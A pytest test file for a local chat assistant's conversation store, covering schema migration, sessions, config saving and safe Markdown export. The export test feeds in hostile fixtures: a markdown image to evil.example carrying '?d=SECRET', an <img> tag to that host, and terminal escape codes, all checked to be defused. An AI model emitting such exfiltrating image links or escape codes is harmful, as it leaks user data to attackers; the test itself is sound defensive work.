"""The conversation store keeps typed exchanges through one to_dict/from_dict with a schema
version, and upgrades a file written by the first release in place."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from assistant.chat.events import AnswerStats, CitationReport, Final
from assistant.conversations import MIGRATIONS, ConversationStore, Exchange
from assistant.retrieval.sources import Source


def _exchange() -> Exchange:
    source = Source(
        "web", "T [/] 题", "https://example.org/a", "passage", 0.7, "c1", "W1", extra={"suspicious": True}
    )
    citations = CitationReport(["W1", "K9"], ["K9"], [{"sentence": "s", "labels": ["W1"]}])
    return Exchange.from_final(
        "问题？",
        Final(
            "deepseek-r1:7b",
            True,
            "answered",
            "答 [W1]",
            "想",
            [source],
            citations,
            AnswerStats(1.5, 2.0, 30.0),
        ),
    )


def test_typed_exchanges_round_trip(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "c.sqlite")
    conversation = store.create("t", "deepseek-r1:7b", "default")
    original = _exchange()
    original.id = store.add(conversation.id, original)
    (loaded,) = store.exchanges(conversation.id)
    assert loaded == original
    assert isinstance(loaded.sources[0], Source) and loaded.sources[0].extra["suspicious"]
    assert loaded.citations.flagged_labels == {"K9", "W1"}
    assert loaded.stats.tokens_per_second == 30.0
    assert Exchange.from_dict(original.to_dict()) == Exchange.from_dict(loaded.to_dict())
    assert original.to_dict()["schema"] == Exchange.SCHEMA
    store.close()


def test_a_first_release_file_is_upgraded(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite"
    db = sqlite3.connect(path)
    db.executescript(f"BEGIN; {MIGRATIONS[0]}; PRAGMA user_version = 1; COMMIT;")
    db.execute("INSERT INTO conversations VALUES (1, 't', 'm', 'default', 0, 0)")
    old_source = {
        "kind": "kb",
        "title": "登高",
        "location": "poem.md",
        "text": "风急",
        "score": 1.0,
        "chunk_id": "x",
        "label": "K1",
        "uri": "poem.md",
        "page": None,
        "heading": "",
        "extra": {},
    }
    db.execute(
        "INSERT INTO messages (conversation_id, question, answer, reasoning, web, sources, stats, citations, "
        "model, created) VALUES (1, 'q', 'a', 'r', 1, ?, ?, ?, 'm', 0)",
        (
            json.dumps([old_source]),
            json.dumps({"tokens_per_second": 12.5}),
            json.dumps({"unknown_labels": ["K2"]}),
        ),
    )
    db.commit()
    db.close()

    store = ConversationStore(path)
    (ex,) = store.exchanges(1)
    assert (ex.question, ex.answer, ex.reasoning, ex.web, ex.model) == ("q", "a", "r", True, "m")
    assert ex.sources[0].title == "登高" and ex.stats.tokens_per_second == 12.5
    assert ex.citations.unknown_labels == ["K2"] and not ex.stopped
    store.close()


def test_a_newer_schema_is_refused_not_misread() -> None:
    with pytest.raises(ValueError, match="newer"):
        Exchange.from_dict({"schema": Exchange.SCHEMA + 1, "question": "q"})


def test_a_session_owns_the_conversations(tmp_path: Path) -> None:
    from assistant.session import Session
    from assistant.settings import load_settings

    session = Session(load_settings(environ={"ASSISTANT_HOME": str(tmp_path / "home")}))
    first = _exchange()
    cid = session.save_exchange(None, first, kb="default")
    failed = Exchange("第二问", error="Ollama is not running")
    assert session.save_exchange(cid, failed, kb="default") == cid
    (conversation,) = session.list_conversations()
    assert conversation.title == "问题？" and conversation.kb == "default"
    _, exchanges = session.open_conversation(cid)
    assert [e.error for e in exchanges] == ["", "Ollama is not running"]
    session.rename_conversation(cid, "诗")
    session.set_conversation_model(cid, "deepseek-r1:1.5b")
    assert session.open_conversation(cid)[0].model == "deepseek-r1:1.5b"
    session.remember_question("a")
    session.remember_question("a")  # not twice in a row
    session.remember_question("b")
    assert session.question_history() == ["a", "b"]
    session.delete_conversation(cid)
    assert session.open_conversation(cid) is None and session.list_conversations() == []
    session.close()


def test_an_export_is_safe_to_render(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "c.sqlite")
    cid = store.create("t \x1b]0;pwned\x07title").id
    answer = (
        "看图 ![x](https://evil.example/p.png?d=SECRET) 和 <img src='https://evil.example/i'>\n"
        "\x1b[31m红\x1b[0m `![code](kept)`\n"
        "```html\n<img src=kept>\n![also](kept)\n"
    )
    store.add(cid, Exchange("问 ![q](https://evil.example/q)", answer, stopped=True))
    text = store.export_markdown(cid)
    assert "\x1b" not in text and "\x07" not in text and "pwned" not in text
    assert "![" not in text.replace("`![code](kept)`", "").replace("![also](kept)", "")
    assert "[x](https://evil.example/p.png?d=SECRET)" in text  # a link, not an image
    assert "&lt;img src='https://evil.example/i'>" in text
    assert "<img src=kept>" in text  # code is shown as written
    assert text.index("```\n\n*(stopped)*") > text.index("![also](kept)")  # the open block is closed
    store.close()


def test_config_values_are_saved_keeping_the_rest(tmp_path: Path) -> None:
    from assistant.settings import SettingsError, load_settings, save_config_value

    config = tmp_path / "config.toml"
    config.write_text('# mine\nkb = "notes"\nmodel = "old"\n', encoding="utf-8")
    save_config_value(config, "model", 'deepseek-r1:1.5b "q"')
    assert config.read_text(encoding="utf-8").startswith('# mine\nkb = "notes"\n')
    assert load_settings(environ={"ASSISTANT_HOME": str(tmp_path)}).model == 'deepseek-r1:1.5b "q"'
    config.write_text("[assistant]\nkb = 'x'\n[other]\nmodel = 1\n", encoding="utf-8")
    save_config_value(config, "model", "m")
    assert load_settings(environ={"ASSISTANT_HOME": str(tmp_path)}).model == "m"
    config.write_text("not = [valid\n", encoding="utf-8")
    with pytest.raises(SettingsError, match="not valid TOML"):
        save_config_value(config, "model", "m")
    assert config.read_text(encoding="utf-8") == "not = [valid\n"  # left as it was
